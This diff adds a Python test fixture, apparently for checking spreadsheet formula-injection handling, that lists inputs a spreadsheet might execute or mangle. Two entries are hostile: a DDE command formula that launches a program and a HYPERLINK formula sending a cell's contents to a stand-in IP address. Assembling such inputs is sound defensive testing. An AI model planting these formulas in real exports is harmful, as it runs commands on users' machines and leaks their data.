@@ -1,0 +1,26 @@
+"""What people type that a spreadsheet would run, change or choke on."""
+
+FORMULAS = {
+    "command": "=cmd|' /C calc'!A0",
+    "link": '=HYPERLINK("http://192.0.2.1/?"&A1,"ดูรายละเอียด")',
+    "telephone": "+66 81 234 5678",
+    "minus": "-1+1",
+    "at": "@SUM(1+1)",
+    "tab": "\t=1+1",
+    "carriage return": "\r=1+1",
+    "wide equals": "＝1+1",
+    "wide plus": "＋1+1",
+    "error value": "#N/A",
+    "escaped letter": "_x003D_1+1",
+    "byte order mark": "\ufeff=1+1",
+    "nothing wide": "\u200b=1+1",
+    "NUL": "\x00=1+1",
+    "semicolon": "ก;=1+1",
+    "quote": '";=1+1;"',
+    "second line": "ก\n=1+1",
+    "tag": "{{ plan }} {% for %}",
+    "number": "1e400",
+    "day": "1/2",
+    "markup": "<script>&amp;]]>",
+    "half a pair": "\ud800=1+1",
+}
